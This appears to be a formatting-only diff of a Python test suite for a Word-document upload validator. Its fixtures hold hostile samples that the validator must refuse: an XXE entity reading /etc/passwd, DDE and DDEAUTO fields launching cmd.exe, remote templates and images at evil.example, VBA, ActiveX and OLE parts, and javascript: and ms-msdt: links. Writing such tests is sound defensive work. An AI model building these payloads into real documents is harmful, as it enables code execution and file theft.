@@ -52,12 +52,25 @@ OTHER_FILES: dict[str, tuple[bytes, str]] = {
     "text": ("年度工作计划".encode(), "不是 Word 文档"),
     "plain_zip": (zipped({"a.txt": "x"}), "zip"),
     "odt": (zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}), "OpenDocument"),
-    "xlsx": (zipped({"[Content_Types].xml": "<Types>application/vnd.openxmlformats-officedocument.spreadsheetml"
-                                            ".sheet.main+xml</Types>", "xl/workbook.xml": "<x/>"}), "Excel"),
+    "xlsx": (
+        zipped(
+            {
+                "[Content_Types].xml": "<Types>application/vnd.openxmlformats-officedocument.spreadsheetml"
+                ".sheet.main+xml</Types>",
+                "xl/workbook.xml": "<x/>",
+            }
+        ),
+        "Excel",
+    ),
     "pptx": (zipped({"[Content_Types].xml": "<Types>presentationml</Types>", "ppt/a.xml": "<x/>"}), "PowerPoint"),
     "docm_renamed": (docx(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"), "宏"),
-    "strict": (zipped(parts_of(p("x")) | {
-        "word/document.xml": '<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"/>'}), "Strict"),
+    "strict": (
+        zipped(
+            parts_of(p("x"))
+            | {"word/document.xml": '<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"/>'}
+        ),
+        "Strict",
+    ),
 }
 
 
@@ -126,8 +139,10 @@ PACKAGE_THREATS: dict[str, tuple[Callable[[], bytes], str]] = {
     "backslash_entry": (lambda: with_entry("word\\evil.xml"), "package-bad-name"),
     "control_entry": (lambda: with_entry("word/a\x07.xml"), "package-bad-name"),
     "symlink_entry": (lambda: with_entry("word/link.xml", 0o120777), "package-symlink"),
-    "no_document": (lambda: zipped({k: v for k, v in parts_of(p("x")).items() if k != "word/document.xml"}),
-                    "package-damaged"),
+    "no_document": (
+        lambda: zipped({k: v for k, v in parts_of(p("x")).items() if k != "word/document.xml"}),
+        "package-damaged",
+    ),
     "broken_xml": (lambda: docx("<w:p>"), "package-damaged"),
 }
 
@@ -139,7 +154,9 @@ def test_a_hostile_archive_is_refused(threat: str) -> None:
 
 
 def doctype(encoding: str) -> bytes:
-    text = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
+    text = (
+        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
+    )
     return text.encode(encoding)
 
 
@@ -148,9 +165,11 @@ def field(code: str) -> str:
     return p(f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{pieces}<w:r><w:fldChar w:fldCharType="end"/></w:r>')
 
 
-NESTED = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
-          '<w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
-          '<w:r><w:instrText> "cmd" "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+NESTED = (
+    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+    '<w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    '<w:r><w:instrText> "cmd" "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+)
 
 
 def external(kind: str, target: str) -> bytes:
@@ -165,18 +184,30 @@ CONTENT_THREATS: dict[str, tuple[bytes, str]] = {
     "xxe_rels": (docx(extra={"word/_rels/comments.xml.rels": doctype("utf-8")}), "package-doctype"),
     "doctype_unnamed_part": (docx(extra={"word/oddity.dat": doctype("utf-8")}), "package-doctype"),
     "doctype_content_types": (zipped(parts_of(p("x")) | {"[Content_Types].xml": doctype("utf-8")}), "package-doctype"),
-    "odd_encoding": (docx(extra={"word/comments.xml": b'<?xml version="1.0" encoding="UTF-7"?><a/>'}),
-                     "package-encoding"),
+    "odd_encoding": (
+        docx(extra={"word/comments.xml": b'<?xml version="1.0" encoding="UTF-7"?><a/>'}),
+        "package-encoding",
+    ),
     "vba_part": (docx(extra={"word/vbaProject.bin": b"x"}), "package-active-content"),
-    "vba_type": (docx(extra={"word/a.bin": b"x"}, types={"word/a.bin": "application/vnd.ms-office.vbaProject"}),
-                 "package-active-content"),
+    "vba_type": (
+        docx(extra={"word/a.bin": b"x"}, types={"word/a.bin": "application/vnd.ms-office.vbaProject"}),
+        "package-active-content",
+    ),
     "activex": (docx(extra={"word/activeX/activeX1.xml": "<x/>"}), "package-active-content"),
-    "ole_part": (docx(extra={"word/embeddings/oleObject1.bin": b"x"},
-                      arrows=[("rId9", "oleObject", "embeddings/oleObject1.bin")]), "package-active-content"),
-    "ole_element": (docx(p('<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package"/></w:object></w:r>')),
-                    "package-active-content"),
-    "control_element": (docx(p('<w:r><w:object><w:control r:id="rId1" w:name="a"/></w:object></w:r>')),
-                        "package-active-content"),
+    "ole_part": (
+        docx(
+            extra={"word/embeddings/oleObject1.bin": b"x"}, arrows=[("rId9", "oleObject", "embeddings/oleObject1.bin")]
+        ),
+        "package-active-content",
+    ),
+    "ole_element": (
+        docx(p('<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package"/></w:object></w:r>')),
+        "package-active-content",
+    ),
+    "control_element": (
+        docx(p('<w:r><w:object><w:control r:id="rId1" w:name="a"/></w:object></w:r>')),
+        "package-active-content",
+    ),
     "altchunk": (docx('<w:altChunk r:id="rId9"/>'), "package-altchunk"),
     "altchunk_arrow": (docx(extra={"word/a.html": "x"}, arrows=[("rId9", "aFChunk", "a.html")]), "package-altchunk"),
     "ext_template": (external("attachedTemplate", "http://evil.example/t.dotm"), "package-external"),
@@ -187,28 +218,42 @@ CONTENT_THREATS: dict[str, tuple[bytes, str]] = {
     "ext_frame": (external("frame", "http://evil.example/"), "package-external"),
     "ext_unc": (external("image", "\\\\evil\\share\\a.png"), "package-external"),
     "ext_mailmerge": (external("mailMergeSource", "file:///a.mdb"), "package-external"),
-    "ext_settings": (docx(extra={"word/_rels/settings.xml.rels": relationships(
-        ("rId1", "attachedTemplate", "http://evil.example/t.dotm", "External")), "word/settings.xml": "<x/>"}),
-        "package-external"),
+    "ext_settings": (
+        docx(
+            extra={
+                "word/_rels/settings.xml.rels": relationships(
+                    ("rId1", "attachedTemplate", "http://evil.example/t.dotm", "External")
+                ),
+                "word/settings.xml": "<x/>",
+            }
+        ),
+        "package-external",
+    ),
     "link_javascript": (external("hyperlink", "javascript:alert(1)"), "package-external"),
     "link_file": (external("hyperlink", "file:///etc/passwd"), "package-external"),
     "link_unc": (external("hyperlink", "\\\\evil\\share"), "package-external"),
     "link_ms_handler": (external("hyperlink", "ms-msdt:/id"), "package-external"),
-    "vml_source": (docx(p('<w:r><w:pict><v:shape><v:imagedata src="http://evil.example/a"/></v:shape></w:pict></w:r>')),
-                   "package-external"),
+    "vml_source": (
+        docx(p('<w:r><w:pict><v:shape><v:imagedata src="http://evil.example/a"/></v:shape></w:pict></w:r>')),
+        "package-external",
+    ),
     "field_dde": (docx(field("DDE cmd x")), "package-field"),
     "field_ddeauto": (docx(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), "package-field"),
     "field_lower_case": (docx(field("ddeauto x y")), "package-field"),
     "field_includepicture": (docx(field('INCLUDEPICTURE "http://evil.example/a.png"')), "package-field"),
     "field_includetext": (docx(field('INCLUDETEXT "c:\\\\secret.txt"')), "package-field"),
     "field_link": (docx(field("LINK Excel.Sheet.8 a.xls")), "package-field"),
-    "field_simple": (docx(p('<w:fldSimple w:instr=" DDEAUTO a b "><w:r><w:t>x</w:t></w:r></w:fldSimple>')),
-                     "package-field"),
+    "field_simple": (
+        docx(p('<w:fldSimple w:instr=" DDEAUTO a b "><w:r><w:t>x</w:t></w:r></w:fldSimple>')),
+        "package-field",
+    ),
     "field_nested_name": (docx(NESTED), "package-field"),
     "field_in_header": (docx(header=field("DDE cmd x")), "package-field"),
     "field_in_footnote": (docx(footnotes=f'<w:footnote w:id="1">{field("DDE cmd x")}</w:footnote>'), "package-field"),
-    "field_unclosed": (docx('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
-                            "<w:r><w:instrText>DDE x</w:instrText></w:r></w:p>"), "package-field"),
+    "field_unclosed": (
+        docx('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE x</w:instrText></w:r></w:p>'),
+        "package-field",
+    ),
     "field_hyperlink_file": (docx(field('HYPERLINK "file:///c:/a.exe"')), "package-external"),
 }
 
@@ -221,11 +266,13 @@ def test_hostile_content_is_refused(threat: str) -> None:
 
 LENGTH_THREATS = {
     "paragraphs_150k": lambda: docx("<w:p/>" * 150_000),
-    "paragraphs_other_prefix": lambda: docx(extra={
-        "word/extra.xml": f'<x:a xmlns:x="{WML}">' + "<x:p/>" * 20_001 + "</x:a>"}),
+    "paragraphs_other_prefix": lambda: docx(
+        extra={"word/extra.xml": f'<x:a xmlns:x="{WML}">' + "<x:p/>" * 20_001 + "</x:a>"}
+    ),
     "rows_20k": lambda: docx(table(*[("x",)] * 20_000)),
-    "paragraphs_utf16": lambda: docx(extra={
-        "word/extra.xml": (f"<w:hdr {NAMESPACES}>" + "<w:p/>" * 20_001 + "</w:hdr>").encode("utf-16")}),
+    "paragraphs_utf16": lambda: docx(
+        extra={"word/extra.xml": (f"<w:hdr {NAMESPACES}>" + "<w:p/>" * 20_001 + "</w:hdr>").encode("utf-16")}
+    ),
 }
 
 
@@ -258,9 +305,11 @@ def test_honest_documents_are_accepted(kind: str) -> None:
 
 
 def test_all_findings_are_told_at_once() -> None:
-    data = docx('<w:altChunk r:id="rId9"/>' + field("DDE x y"),
-                arrows=[("rId9", "image", "http://evil.example/a.png", "External")],
-                extra={"word/vbaProject.bin": b"x"})
+    data = docx(
+        '<w:altChunk r:id="rId9"/>' + field("DDE x y"),
+        arrows=[("rId9", "image", "http://evil.example/a.png", "External")],
+        extra={"word/vbaProject.bin": b"x"},
+    )
     assert set(refused(data)) == {"package-altchunk", "package-field", "package-external", "package-active-content"}
 
 
